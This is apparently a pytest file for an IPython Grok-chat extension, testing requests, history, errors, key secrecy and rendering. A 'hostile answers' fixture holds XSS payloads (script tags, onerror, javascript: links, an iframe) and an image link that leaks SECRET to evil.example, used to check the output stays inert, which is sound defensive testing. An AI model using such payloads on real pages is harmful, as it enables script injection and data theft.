"""%%grok and %grok in a real InteractiveShell, through the real client to the local stand-in."""

from __future__ import annotations

import base64
import io
import json
import os
import signal
import threading
import time

import pytest

from grok_magic.errors import (
    APIConnectionError,
    APITimeoutError,
    AuthenticationError,
    CreditsExhaustedError,
    ImageError,
    InputError,
    InterruptedByUser,
    MissingKeyError,
    NotFoundError,
    RateLimitError,
    ServerError,
    StreamInterruptedError,
)
from grok_magic.notebook.magics import GrokMagics
from grok_magic.xai.response import Response
from tests.support.inert_check import html_findings
from tests.support.magic_helpers import magic_shell, run, shell, visible_text
from tests.support.xai_standin import FAKE_KEY, Close, Fault, Hang, Reply, as_chat

WIDGET_MIME = "application/vnd.jupyter.widget-view+json"


@pytest.fixture
def ip(xai_env):
    """A real shell with freshly registered magics and a clean namespace."""
    return magic_shell(max_retries=2)


def chat_requests(srv):
    """Requests for answers, on whichever API (the default is the Responses API)."""
    return srv.answer_requests


def last_body(srv) -> dict:
    """The last question's body, read as chat completions (`as_chat`)."""
    return chat_requests(srv)[-1].as_chat


def png_bytes(size=(8, 6), color=(255, 0, 0)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "PNG")
    return buffer.getvalue()


# -- loading and help ------------------------------------------------------------------------
def test_load_ext_registers_magics_and_help_has_examples(xai_env):
    ip_ = shell()
    ip_.run_line_magic("load_ext", "grok_magic")
    assert "grok" in ip_.magics_manager.magics["cell"]
    assert "grok" in ip_.magics_manager.magics["line"]
    doc = ip_.find_cell_magic("grok").__doc__
    for text in ("Examples", "--schema", "--dry-run", "{name}", "%grok models", "-i IMAGE"):
        assert text in doc


# -- the plain path --------------------------------------------------------------------------
def test_cell_streams_markdown_then_usage_widget(ip, xai_env):
    out = run(ip, "%%grok\nSay hi in **Portuguese**")
    assert out.error is None, out.everything()
    body, sent = last_body(xai_env), chat_requests(xai_env)[-1]
    assert sent.path == "/v1/responses" and body["model"] == "grok-4.3"  # today's defaults
    assert sent.json["stream"] is True and sent.json["store"] is False
    assert body["messages"] == [{"role": "user", "content": "Say hi in **Portuguese**"}]
    answer, usage = out.outputs[-2], out.outputs[-1]
    assert 'Stand-in answer' in out.shown()
    assert "Say hi in **Portuguese**" in out.plain()
    assert set(answer) >= {"text/html", "text/plain"} and "text/markdown" not in answer
    assert WIDGET_MIME in usage and "prompt" in usage["text/plain"]
    assert "cost" in usage["text/html"]
    response = ip.user_ns["_grok"]
    assert isinstance(response, Response) and response.complete
    assert response.usage.prompt_tokens > 0 and response.cost > 0
    assert response.model == "grok-4.3"
    assert f"{response.usage.total_tokens:,}" in usage["text/plain"]


def test_recorded_stream_is_rendered_with_reasoning(ip, xai_env):
    """A real recorded grok-code-fast stream (reasoning deltas, then content)."""
    recorded = xai_env.recordings["grok-code-fast_simple_streaming"]
    system, user = recorded.request_body["messages"]
    run(ip, "%config GrokMagics.api = 'chat'")  # a recorded chat completions stream
    out = run(ip, f"%%grok -m grok-code-fast-1 -s '{system['content']}'\n{user['content']}")
    assert out.error is None, out.everything()
    response = ip.user_ns["_grok"]
    assert response.text.startswith("Olá")
    assert response.reasoning.startswith("First")
    assert response.usage.reasoning_tokens > 0
    assert any("grok-reasoning" in o.get("text/html", "") for o in out.outputs)
    assert "Olá" in out.shown()


def test_options_reach_the_request(ip, xai_env):
    ip.user_ns["tone"] = "You are a pirate."
    out = run(ip, "%%grok -m grok-3-mini -s tone -t 0.3 --max-tokens 50 --reasoning-effort low\nAhoy?")
    assert out.error is None, out.everything()
    body = last_body(xai_env)
    assert body["model"] == "grok-3-mini"
    assert body["messages"][0] == {"role": "system", "content": "You are a pirate."}
    assert body["temperature"] == 0.3
    assert body["max_completion_tokens"] == 50
    assert body["reasoning_effort"] == "low"
    assert "max_tokens" not in body


def test_unset_options_are_not_sent(ip, xai_env):
    run(ip, "%%grok\nHello")
    body = chat_requests(xai_env)[-1].json
    assert set(body) == {"model", "input", "stream", "store", "include", "prompt_cache_key"}
    run(ip, "%config GrokMagics.api = 'chat'")
    run(ip, "%%grok\nHello")
    assert set(chat_requests(xai_env)[-1].json) == {"model", "messages", "stream", "stream_options"}


def test_system_prompt_text_with_quotes(ip, xai_env):
    out = run(ip, '%%grok -s "Answer in French, please"\nHello')
    assert out.error is None
    assert last_body(xai_env)["messages"][0]["content"] == "Answer in French, please"


def test_config_defaults(ip, xai_env):
    run(ip, '%config GrokMagics.model = "grok-4.3"')
    run(ip, '%config GrokMagics.system = "Be brief."')
    out = run(ip, "%%grok\nHello")
    assert out.error is None, out.everything()
    body = last_body(xai_env)
    assert body["model"] == "grok-4.3"
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}


def test_no_stream_sends_one_json_request(ip, xai_env):
    out = run(ip, "%%grok --no-stream\nHello there")
    assert out.error is None, out.everything()
    body = last_body(xai_env)
    assert "stream" not in body
    assert "Hello there" in out.shown()
    assert ip.user_ns["_grok"].usage.total_tokens > 0


def test_quiet_hides_usage(ip, xai_env):
    out = run(ip, "%%grok -q\nHello")
    assert all(WIDGET_MIME not in o for o in out.outputs)
    assert "Stand-in answer" in out.shown()


def test_out_stores_response(ip, xai_env):
    run(ip, "%%grok -o answer\nHello")
    assert isinstance(ip.user_ns["answer"], Response)
    assert ip.user_ns["answer"] is ip.user_ns["_grok"]


def test_json_answer_is_parsed(ip, xai_env):
    out = run(ip, "%%grok --json -o data\nGive me a JSON object about cats")
    assert out.error is None, out.everything()
    assert last_body(xai_env)["response_format"] == {"type": "json_object"}
    assert isinstance(ip.user_ns["data"], dict)
    assert ip.user_ns["_grok"].parsed == ip.user_ns["data"]
    assert 'class="language-json"' in out.html()  # shown as a JSON code block


def test_a_json_answer_ends_pretty_with_its_lists_of_objects_as_tables(ip, xai_env):
    """One long line of JSON (hostile values in it) shows indented, and a list of objects
    under a key as our own table: text columns as text, numbers right-aligned, all inert."""
    answer = json.dumps({"pets": [
        {"name": "Rex <script>alert(1)</script>", "age": 3, "weight": 12.25},
        {"name": "**Tom** | [x](javascript:alert(1))", "age": 14, "weight": None},
    ], "total": 31415926535897932384})
    xai_env.enqueue(Reply(content=answer, chunk_chars=20))
    out = run(ip, "%%grok --json -q\nPets")
    assert out.error is None, out.everything()
    [shown] = out.outputs
    page = shown["text/html"]
    assert html_findings(page) == [] and "href" not in page and "<strong>Tom" not in page
    assert shown["text/plain"] == json.dumps(json.loads(answer), indent=2)
    text = visible_text(page)
    assert '"total": 31415926535897932384' in text and '\n    {\n      "name": "Rex' in text
    head = page[page.index("<table>"):page.index("</thead>")]
    assert ">name</th>" in head and '<th style="text-align:right">age</th>' in head
    body = page[page.index("<tbody>"):page.index("</tbody>")]
    assert "<td>Rex &lt;script&gt;alert(1)&lt;/script&gt;</td>" in body
    assert "<td>**Tom** | [x](javascript:alert(1))</td>" in visible_cells(body)
    assert '<td style="text-align:right">12.25</td>' in body
    assert "<strong>pets</strong>" in page  # the key the table came from
    assert ip.user_ns["_grok"].parsed == json.loads(answer)


def test_an_answer_carries_our_css_for_tables_and_headings_once(ip, xai_env):
    """The answer's first display holds ANSWER_CSS (text columns left, smaller headings); a
    `---:` column keeps its inline right alignment, which wins over that CSS."""
    from grok_magic.notebook.display import ANSWER_CSS

    xai_env.enqueue(Reply(content="# Title\n\n| name | n |\n|---|--:|\n| a | 1 |\n\nThe end."))
    out = run(ip, "%%grok -q\nA table")
    assert out.error is None, out.everything()
    pages = [o["text/html"] for o in out.outputs]
    assert pages[0].startswith(f"<div class='grok-answer mathjax_ignore'>{ANSWER_CSS}")
    assert sum(p.count("<style>") for p in pages) == 1
    assert all(p.startswith("<div class='grok-answer") and html_findings(p) == [] for p in pages)
    assert ".grok-answer .grok-md th, .grok-answer .grok-md td { text-align: left; }" in ANSWER_CSS
    assert ".grok-answer .grok-md h1 { font-size: 1.3em; }" in ANSWER_CSS
    table = next(p for p in pages if "<table>" in p)
    assert "<td>a</td>" in table and '<td style="text-align:right">1</td>' in table


def visible_cells(html_text: str) -> str:
    """Table cells as a browser shows their text (entities and escapes read)."""
    import html as html_module
    import re

    return re.sub(r"<td([^>]*)>(.*?)</td>",
                  lambda m: f"<td{m.group(1)}>{html_module.unescape(visible_text(m.group(2)))}</td>",
                  html_text)


def test_schema_dict_is_sent_and_answer_validated(ip, xai_env):
    ip.user_ns["schema"] = {
        "type": "object",
        "properties": {"animal": {"type": "string"}, "legs": {"type": "integer"}},
        "required": ["animal", "legs"],
    }
    out = run(ip, "%%grok --schema schema -o found\nWhat animal is this?")
    assert out.error is None, out.everything()
    sent = last_body(xai_env)["response_format"]
    assert sent["type"] == "json_schema"
    assert sent["json_schema"]["schema"] == ip.user_ns["schema"]
    assert isinstance(ip.user_ns["found"]["legs"], int)


def test_schema_pydantic_model(ip, xai_env):
    pydantic = pytest.importorskip("pydantic")

    class Pet(pydantic.BaseModel):
        name: str
        age: int

    ip.user_ns["Pet"] = Pet
    out = run(ip, "%%grok --schema Pet -o pet\nInvent a pet")
    assert out.error is None, out.everything()
    assert isinstance(ip.user_ns["pet"], Pet)
    assert last_body(xai_env)["response_format"]["json_schema"]["name"] == "Pet"


def test_schema_answer_that_does_not_match_is_a_clear_error(ip, xai_env):
    ip.user_ns["schema"] = {"type": "object", "properties": {"n": {"type": "integer"}},
                            "required": ["n"]}
    xai_env.enqueue(Reply(content='{"n": "not a number"}'))
    out = run(ip, "%%grok --schema schema\nCount")
    assert isinstance(out.error, InputError)
    assert "does not match the schema" in out.told()
    assert ip.user_ns["_grok"].text == '{"n": "not a number"}'


def test_missing_schema_variable(ip, xai_env):
    out = run(ip, "%%grok --schema nothere\nHi")
    assert isinstance(out.error, InputError) and "nothere" in out.told()
    assert chat_requests(xai_env) == []
    # Refused before any answer area: the same calm paragraph, shown once.
    [shown] = out.outputs
    assert "<p class='grok-failed grok-cell-end'>" in shown["text/html"]
    assert visible_text(shown["text/html"]).strip() == out.error.paragraph()
    assert html_findings(shown["text/html"]) == []
    assert out.stdout.strip() == "InputError (shown above)"


# -- dry run ---------------------------------------------------------------------------------
def test_dry_run_sends_nothing_needs_no_key(ip, xai_env, monkeypatch, tmp_path):
    monkeypatch.delenv("XAI_API_KEY")
    (tmp_path / "pic.png").write_bytes(png_bytes())
    out = run(ip, "%%grok --dry-run -t 0.2 -i pic.png\nWhat's in this picture?")
    assert out.error is None, out.everything()
    assert chat_requests(xai_env) == []
    text = out.plain()
    assert 'Authorization: Bearer $XAI_API_KEY' in text
    assert f"curl {xai_env.base_url}/responses" in text
    assert '"temperature": 0.2' in text
    assert "data:image/png;base64," in text and "characters)" in text  # shortened
    assert "What'\"'\"'s in this picture?" in text  # the apostrophe is shell-quoted
    shown = out.shown()  # what the notebook shows says the same, as typed
    assert f"POST {xai_env.base_url}/responses with this body" in shown
    assert f"curl {xai_env.base_url}/responses" in shown and '"temperature": 0.2' in shown
    assert FAKE_KEY not in out.everything()


def test_dry_run_shows_the_conversation_so_far(ip, xai_env):
    run(ip, "%%grok\nFirst question")
    out = run(ip, "%%grok --dry-run\nSecond question")
    body = as_chat(json.loads(out.plain().split("\n", 1)[1].split("\n\ncurl")[0]))
    assert [m["role"] for m in body["messages"]] == ["user", "assistant", "user"]
    assert len(chat_requests(xai_env)) == 1


# -- conversation ----------------------------------------------------------------------------
def test_cells_continue_one_conversation_and_new_resets(ip, xai_env):
    run(ip, "%%grok\nMy name is Ada.")
    run(ip, "%%grok\nWhat is my name?")
    roles = [m["role"] for m in last_body(xai_env)["messages"]]
    assert roles == ["user", "assistant", "user"]
    assert last_body(xai_env)["messages"][0]["content"] == "My name is Ada."
    run(ip, "%%grok --new\nFresh start")
    assert len(last_body(xai_env)["messages"]) == 1
    run(ip, "%grok reset")
    run(ip, "%%grok\nAgain")
    assert len(last_body(xai_env)["messages"]) == 1


def test_max_history_bounds_the_request(ip, xai_env):
    run(ip, "%config GrokMagics.max_history = 1")
    for n in range(3):
        run(ip, f"%%grok\nQuestion {n}")
    messages = last_body(xai_env)["messages"]
    assert [m["content"] for m in messages if m["role"] == "user"] == ["Question 1", "Question 2"]


def test_failed_turn_leaves_history_unchanged(ip, xai_env):
    run(ip, "%%grok\nOne")
    xai_env.enqueue(Fault(400))
    out = run(ip, "%%grok\nTwo")
    assert out.error is not None
    run(ip, "%%grok\nThree")
    users = [m["content"] for m in last_body(xai_env)["messages"] if m["role"] == "user"]
    assert users == ["One", "Three"]


def test_history_images_are_not_reencoded(ip, xai_env, monkeypatch):
    from PIL import Image

    import grok_magic.inputs.images as images

    ip.user_ns["img"] = Image.new("RGB", (20, 10), (0, 128, 255))
    run(ip, "%%grok\nLook: {img}")
    calls = []
    original = images.to_image_part
    monkeypatch.setattr(images, "to_image_part", lambda *a, **k: calls.append(a) or original(*a, **k))
    run(ip, "%%grok\nAnd now?")
    first, second = chat_requests(xai_env)[-2:]
    assert second.as_chat["messages"][0] == first.as_chat["messages"][0]  # same encoded part
    assert calls == []


# -- the cell text ---------------------------------------------------------------------------
def test_interpolation_rules(ip, xai_env):
    ip.user_ns["city"] = "Lisbon"
    ip.user_ns["n"] = 3
    cell = (
        "Weather in {city} for {n} days. {missing} stays. {{city}} is literal. "
        "{os.environ[HOME]} and {city.upper} stay. JSON: {\"a\": {\"b\": 1}}"
    )
    run(ip, "%%grok\n" + cell)
    sent = last_body(xai_env)["messages"][-1]["content"]
    assert sent == (
        "Weather in Lisbon for 3 days. {missing} stays. {city} is literal. "
        "{os.environ[HOME]} and {city.upper} stay. JSON: {\"a\": {\"b\": 1}}"
    )


def test_image_variable_goes_in_place(ip, xai_env):
    from PIL import Image

    ip.user_ns["img"] = Image.new("RGB", (40, 30), (10, 200, 10))
    run(ip, "%%grok\nBefore {img} after")
    content = last_body(xai_env)["messages"][-1]["content"]
    assert [p["type"] for p in content] == ["text", "image_url", "text"]
    assert content[0]["text"] == "Before" and content[2]["text"] == "after"
    url = content[1]["image_url"]["url"]
    from PIL import Image as PILImage

    decoded = PILImage.open(io.BytesIO(base64.b64decode(url.split(",", 1)[1])))
    assert decoded.size == (40, 30)


def test_inline_markdown_image_file_and_bare_url(ip, xai_env, tmp_path):
    (tmp_path / "chart.png").write_bytes(png_bytes())
    run(ip, "%%grok --detail low\nCompare ![chart](chart.png) with "
            "https://example.com/cat.jpg?size=large please")
    content = last_body(xai_env)["messages"][-1]["content"]
    assert [p["type"] for p in content] == ["text", "image_url", "text", "image_url", "text"]
    assert content[1]["image_url"]["url"] == "data:image/png;base64," + base64.b64encode(
        png_bytes()).decode()
    assert content[3]["image_url"] == {"url": "https://example.com/cat.jpg?size=large",
                                       "detail": "low"}


def test_image_option_variable_path_and_url(ip, xai_env, tmp_path):
    import numpy as np

    (tmp_path / "a b.png").write_bytes(png_bytes())
    ip.user_ns["arr"] = np.zeros((5, 7, 3), dtype=np.uint8)
    out = run(ip, "%%grok -i arr -i 'a b.png' -i https://example.com/x.png\nThree images")
    assert out.error is None, out.everything()
    content = last_body(xai_env)["messages"][-1]["content"]
    assert [p["type"] for p in content] == ["text", "image_url", "image_url", "image_url"]
    assert content[3]["image_url"]["url"] == "https://example.com/x.png"


# -- errors, each one paragraph and nothing sent where it fails early ------------------------
def assert_paragraph(out, error_type, *phrases):
    assert isinstance(out.error, error_type), (type(out.error), out.everything())
    shown = out.told()
    assert "Traceback" not in shown and "File " not in shown
    for phrase in phrases:
        assert phrase in shown, shown
    if not isinstance(out.error, InterruptedByUser):  # a Stop is a note of its own
        assert shown.count(out.error.paragraph()) == 1, shown  # said once, where the answer goes
    assert out.stdout.strip() == f"{error_type.__name__} (shown above)" or \
        out.stdout.strip() == f"{type(out.error).__name__} (shown above)", out.stdout
    assert FAKE_KEY not in out.everything()


def test_no_key(ip, xai_env, monkeypatch):
    monkeypatch.delenv("XAI_API_KEY")
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, MissingKeyError, "XAI_API_KEY", ".env", "%grok key")
    assert chat_requests(xai_env) == []


def test_key_from_dotenv(ip, xai_env, monkeypatch, tmp_path):
    monkeypatch.delenv("XAI_API_KEY")
    (tmp_path / ".env").write_text(f"XAI_API_KEY={FAKE_KEY}\n")
    out = run(ip, "%%grok\nHello")
    assert out.error is None, out.everything()
    assert chat_requests(xai_env)[-1].headers["Authorization"] == f"Bearer {FAKE_KEY}"


def test_wrong_key(ip, xai_env, monkeypatch):
    monkeypatch.setenv("XAI_API_KEY", "xai-wrongwrongwrongwrong")
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, AuthenticationError, "Incorrect API key", "XAI_API_KEY")
    assert "xai-wrongwrongwrongwrong" not in out.everything()


def test_an_error_is_one_calm_paragraph_where_the_answer_goes(ip, xai_env, monkeypatch):
    """xAI's 400 for a wrong key: the waiting line becomes one paragraph (today's two texts,
    joined), no red error text repeats it; the cell still fails with the error itself."""
    monkeypatch.setenv("XAI_API_KEY", "xai-wrongwrongwrongwrong")
    out = run(ip, "%%grok\nHello")
    assert isinstance(out.error, AuthenticationError)
    [answer] = out.outputs
    assert "<p class='grok-failed grok-cell-end'>" in answer["text/html"]
    assert html_findings(answer["text/html"]) == []
    paragraph = visible_text(answer["text/html"]).strip()
    assert paragraph == f"no answer: {out.error.paragraph()}"
    assert paragraph.startswith("no answer: The API key was not accepted (HTTP 400): Incorrect")
    assert "thinking" not in paragraph
    assert out.stdout.strip() == "AuthenticationError (shown above)" and out.stderr == ""
    assert out.error._render_traceback_() == ["AuthenticationError (shown above)"]


def test_an_error_before_any_request_is_the_same_calm_paragraph(ip, xai_env, monkeypatch):
    monkeypatch.delenv("XAI_API_KEY")
    out = run(ip, "%%grok\nHello")
    [answer] = out.outputs
    assert "<p class='grok-failed grok-cell-end'>" in answer["text/html"]
    assert visible_text(answer["text/html"]).strip() == f"no answer: {out.error.paragraph()}"
    assert out.stdout.strip() == "MissingKeyError (shown above)"
    assert chat_requests(xai_env) == []


def test_unknown_model(ip, xai_env):
    out = run(ip, "%%grok -m grok-nonexistent\nHello")
    assert_paragraph(out, NotFoundError, "grok-nonexistent", "%grok models")


def test_rate_limit_after_retries(ip, xai_env):
    xai_env.enqueue(*[Fault(429, headers={"Retry-After": "0"}) for _ in range(3)])
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, RateLimitError, "429", "after 3 attempts")
    assert len(chat_requests(xai_env)) == 3


def test_rate_limit_then_success(ip, xai_env):
    xai_env.enqueue(Fault(429, headers={"Retry-After": "0"}))
    out = run(ip, "%%grok\nHello")
    assert out.error is None
    assert len(chat_requests(xai_env)) == 2


def test_credits_exhausted_is_not_retried(ip, xai_env):
    xai_env.enqueue(Fault.credits())
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, CreditsExhaustedError, "credits", "console.x.ai")
    assert len(chat_requests(xai_env)) == 1


def test_server_error(ip, xai_env):
    xai_env.enqueue(*[Fault(503, headers={"Retry-After": "0"}) for _ in range(3)])
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, ServerError, "503")


def test_read_timeout(ip, xai_env):
    xai_env.enqueue(Hang(3))
    out = run(ip, "%%grok --timeout 0.5\nHello")
    assert_paragraph(out, APITimeoutError, "0.5 s")


def test_refused_connection(ip, monkeypatch):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setenv("XAI_BASE_URL", f"http://127.0.0.1:{port}/v1")
    ip.grok_magics.max_retries = 0
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, APIConnectionError, "connection refused", "XAI_BASE_URL")


def test_closed_without_answer(ip, xai_env):
    # A fourth: on a kept-alive connection the first drop is taken for an idle close and the
    # request goes again at once on a new connection, not counted as a retry.
    xai_env.enqueue(Close(), Close(), Close(), Close())
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, APIConnectionError)


def test_stream_cut_keeps_partial_text_marked(ip, xai_env):
    xai_env.enqueue(Reply(content="The first part arrives and then the rest never does.",
                          cut_after=5))
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, StreamInterruptedError, "cut off")
    response = ip.user_ns["_grok"]
    assert response.partial and response.text
    assert response.text in out.shown().replace("\n", "")
    assert "incomplete" in out.shown()
    run(ip, "%%grok\nNext")
    assert len(last_body(xai_env)["messages"]) == 1  # the partial turn is not in history


def test_error_event_inside_stream(ip, xai_env):
    xai_env.enqueue(Reply(content="Some words before the failure arrive here.", error_after=3,
                          error_event={"code": "The service is currently unavailable",
                                       "error": "Timed out waiting for first token"}))
    out = run(ip, "%%grok\nHello")
    assert_paragraph(out, ServerError, "Timed out waiting for first token")
    assert ip.user_ns["_grok"].partial


def test_unknown_option_is_usage_error(ip, xai_env):
    out = run(ip, "%%grok --bogus\nHello")
    from IPython.core.error import UsageError

    assert isinstance(out.error, UsageError)  # shown as one line, no traceback
    assert "Traceback" not in out.stderr + out.stdout
    assert "unrecognized arguments: --bogus" in out.stderr + out.stdout
    assert chat_requests(xai_env) == []


def test_bad_quotes_are_usage_error(ip, xai_env):
    out = run(ip, '%%grok -s "unclosed\nHello')
    assert "check the quotes" in out.stderr + out.stdout
    assert chat_requests(xai_env) == []


def test_image_option_that_is_not_an_image(ip, xai_env):
    ip.user_ns["notimg"] = {"a": 1}
    out = run(ip, "%%grok -i notimg\nWhat is this?")
    assert_paragraph(out, ImageError)
    assert chat_requests(xai_env) == []


def test_missing_image_file(ip, xai_env):
    out = run(ip, "%%grok -i nothere.png\nWhat is this?")
    assert_paragraph(out, ImageError, "nothere.png")
    assert chat_requests(xai_env) == []


def test_empty_cell(ip, xai_env):
    out = run(ip, "%%grok\n   \n")
    assert_paragraph(out, InputError, "empty")
    assert chat_requests(xai_env) == []


def test_keyboard_interrupt_stops_at_once_and_keeps_partial(ip, xai_env, default_sigint):
    words = " ".join(f"word{i}" for i in range(200))
    xai_env.enqueue(Reply(content=words, delay=0.02))
    main = threading.main_thread().ident

    def interrupt_when_streaming():
        deadline = time.monotonic() + 10
        while not chat_requests(xai_env) and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.3)
        signal.pthread_kill(main, signal.SIGINT)

    threading.Thread(target=interrupt_when_streaming, daemon=True).start()
    started = time.monotonic()
    out = run(ip, "%%grok\nCount slowly")
    assert time.monotonic() - started < 3  # the full stream would take 4 s
    # A neutral note in the answer area; the cell still fails (so "Run all" stops there), its
    # traceback one short line.
    assert_paragraph(out, InterruptedByUser, "stopped: you interrupted. The partial answer is kept.")
    response = ip.user_ns["_grok"]
    assert response.stopped and response.text.startswith("word0")
    assert "<p class='grok-note grok-stopped" in out.html()
    assert "<p class='grok-failed" not in out.html()
    assert out.stdout.strip() == "InterruptedByUser (shown above)"


# -- hostile answers -------------------------------------------------------------------------
HOSTILE = (
    "Here you go <script>window.__grok_xss=1</script> <img src=x onerror=\"window.__grok_xss=2\">\n\n"
    "![leak](https://evil.example/c.png?d=SECRET) and [click](javascript:alert(1))\n\n"
    "<iframe src=https://evil.example></iframe> `<b>code</b>` stays code\n\n"
    "```html\n<script>shown as code</script>\n```\n"
)


def test_hostile_answer_is_rendered_inert(ip, xai_env):
    xai_env.enqueue(Reply(content=HOSTILE))
    out = run(ip, "%%grok\nHello")
    assert out.error is None
    assert all("text/markdown" not in o.data for o in out.raw)
    answers = [o for o in out.raw if WIDGET_MIME not in o.data]  # the usage widget is ours
    for update in answers:  # every update the front end received, not only the last
        assert html_findings(update.data.get("text/html", "")) == [], update.data
    rendered = out.html()
    assert '<a href="https://evil.example/c.png?d=SECRET"' in rendered  # a link, not loaded
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in rendered
    shown = out.shown()
    assert "<script>shown as code</script>" in shown  # the code block, highlighted
    assert "<script>window.__grok_xss=1</script>" in shown  # visible as text, never run
    assert ip.user_ns["_grok"].text == HOSTILE  # the raw text is still there to inspect


def test_image_the_user_sent_may_be_shown(ip, xai_env):
    xai_env.enqueue(Reply(content="Your image: ![it](https://example.com/cat.png)"))
    out = run(ip, "%%grok\nDescribe https://example.com/cat.png")
    answer = out.outputs[-2]["text/html"]
    assert '<img src="https://example.com/cat.png" alt="it">' in answer
    assert html_findings(answer, {"https://example.com/cat.png"}) == []


@pytest.mark.parametrize("answer", ["https://example.com/page.md", "/etc/passwd", "notebook.ipynb"])
def test_answer_that_looks_like_url_or_path_is_just_text(ip, xai_env, answer):
    xai_env.enqueue(Reply(content=answer))
    out = run(ip, "%%grok\nHello")
    shown = out.outputs[-2]["text/html"]
    assert visible_text(shown).strip() == answer and html_findings(shown) == []
    # Never fetched or opened: a bare URL is at most a link (GFM autolink), a path only text.
    assert "<img" not in shown
    assert ("<a " in shown) == answer.startswith("https://")
    assert out.outputs[-2]["text/plain"] == answer


# -- subcommands -----------------------------------------------------------------------------
def test_bare_grok_shows_settings_without_the_key(ip, xai_env):
    out = run(ip, "%grok")
    text = out.plain()
    assert "set (from XAI_API_KEY)" in text and "grok-4" in text and xai_env.base_url in text
    assert FAKE_KEY not in out.everything()
    assert "2,000,000 characters, 3600 s in all, 60 s without progress" in text
    run(ip, "%config GrokMagics.max_answer_chars = 5000")
    assert "limits of one answer: 5,000 characters" in run(ip, "%grok").plain()


def test_bare_grok_says_key_missing(ip, xai_env, monkeypatch):
    monkeypatch.delenv("XAI_API_KEY")
    assert "missing" in run(ip, "%grok").plain()


def test_history_and_usage(ip, xai_env):
    xai_env.enqueue(Reply(content="Hi <script>x()</script> there"))
    run(ip, "%%grok\nFirst")
    run(ip, "%%grok\nSecond")
    history = run(ip, "%grok history")
    shown = history.shown()
    assert "You:" in shown and "First" in shown and "Grok:" in shown
    assert "<script>x()</script>" in shown and html_findings(history.html()) == []
    usage = run(ip, "%grok usage")
    totals = ip.grok_magics.conversation.totals
    assert "answers: 2" in usage.plain()
    assert f"total tokens: {totals.total_tokens:,}" in usage.plain()


def test_models_table(ip, xai_env):
    out = run(ip, "%grok models")
    assert out.error is None, out.everything()
    table = out.html()
    assert "<td>grok-4.3" in table and "1.25" in table and "2.5" in table
    assert "←" in out.shown()


def test_key_prompt_keeps_key_in_memory(ip, xai_env, monkeypatch):
    monkeypatch.delenv("XAI_API_KEY")
    monkeypatch.setattr("getpass.getpass", lambda prompt="": FAKE_KEY)
    out = run(ip, "%grok key")
    assert "stored in memory" in out.stdout and FAKE_KEY not in out.everything()
    answer = run(ip, "%%grok\nHello")
    assert answer.error is None
    assert "XAI_API_KEY" not in os.environ
    assert "set (from argument)" in run(ip, "%grok").plain()


def test_one_line_question(ip, xai_env):
    out = run(ip, "%grok Name the capital of Portugal, it's quick.")
    assert out.error is None
    assert last_body(xai_env)["messages"][-1]["content"] == "Name the capital of Portugal, it's quick."


def test_unknown_line_option(ip, xai_env):
    out = run(ip, "%grok --model x")
    assert "first line" in out.stderr + out.stdout


def test_key_never_appears_anywhere(ip, xai_env, monkeypatch):
    """Run many paths and scan every output, the namespace's reprs and widget state."""
    seen = []
    for source in ["%%grok\nHello", "%grok", "%grok usage", "%grok history", "%%grok --dry-run\nX"]:
        seen.append(run(ip, source).everything())
    xai_env.enqueue(Fault(500, body={"code": "x", "error": f"echo {FAKE_KEY}"}),
                    Fault(500), Fault(500))
    seen.append(run(ip, "%%grok\nHello").everything())
    monkeypatch.setenv("XAI_API_KEY", "xai-anotherwrongkey123")
    seen.append(run(ip, "%%grok\nHello").everything())
    seen.append(repr(ip.grok_magics.client()) + repr(ip.grok_magics.settings()))
    seen.append(repr(ip.user_ns["_grok"]))
    blob = "\n".join(seen)
    assert FAKE_KEY not in blob and "xai-anotherwrongkey123" not in blob


def test_dry_run_with_new_keeps_history(ip, xai_env):
    run(ip, "%%grok\nRemember me")
    out = run(ip, "%%grok --dry-run -n -o body\nFresh?")
    assert out.error is None
    assert [m["role"] for m in as_chat(ip.user_ns["body"])["messages"]] == ["user"]
    assert ip.grok_magics.conversation.turns == 1


def test_xai_model_env_sets_the_default(xai_env, monkeypatch):
    monkeypatch.setenv("XAI_MODEL", "grok-4.3")
    shell_ = shell()
    shell_.config.pop("GrokMagics", None)
    shell_.register_magics(GrokMagics(shell=shell_))
    run(shell_, "%%grok\nHi")
    assert last_body(xai_env)["model"] == "grok-4.3"


def test_thinking_indicator_until_the_answer_starts(ip, xai_env):
    xai_env.enqueue(Reply(content="The answer.", reasoning="Let me think about this " * 6,
                          chunk_chars=12, delay=0.12))
    out = run(ip, "%%grok -m grok-3-mini\nHard question")
    assert out.error is None, out.everything()
    thinking = [o.data.get("text/plain", "") for o in out.raw if "thinking" in str(o.data)]
    assert thinking[0].startswith("Grok is thinking… 0 s")
    assert any("characters of reasoning" in t for t in thinking)  # updated while it thinks
    assert all("thinking" not in o.get("text/plain", "") for o in out.outputs)  # then gone
    assert ip.user_ns["_grok"].reasoning.startswith("Let me think")


@pytest.mark.parametrize("stream", [True, False])
def test_the_waiting_line_counts_up_while_nothing_arrives(ip, xai_env, stream):
    """The first byte comes after 1.6 s: the waiting line said 1 s, 2 s on its way (a
    thread refreshes it), in text and a CSS spinner, with no emoji an emoji-less system would
    show as a box; then the answer replaced it."""
    xai_env.enqueue(Reply(content="The answer.", first_delay=1.6))
    out = run(ip, "%%grok\nHi" if stream else "%%grok --no-stream\nHi")
    assert out.error is None, out.everything()
    lines = [o.data.get("text/plain", "") for o in out.raw if "thinking" in str(o.data)]
    assert lines[0] == "Grok is thinking… 0 s"
    assert "Grok is thinking… 1 s" in lines and lines[-1] in ("Grok is thinking… 2 s",
                                                                "Grok is thinking… 1 s")
    waiting = next(o.data["text/html"] for o in out.raw if "thinking" in str(o.data))
    assert "<span class='grok-spinner'></span>" in waiting and html_findings(waiting) == []
    assert "The answer." in out.shown() and "thinking" not in out.shown()
    assert all(ord(c) < 0x2190 or c in "…—·≈" for c in out.everything())


def test_loopback_image_url_is_inlined_for_xai(ip, xai_env):
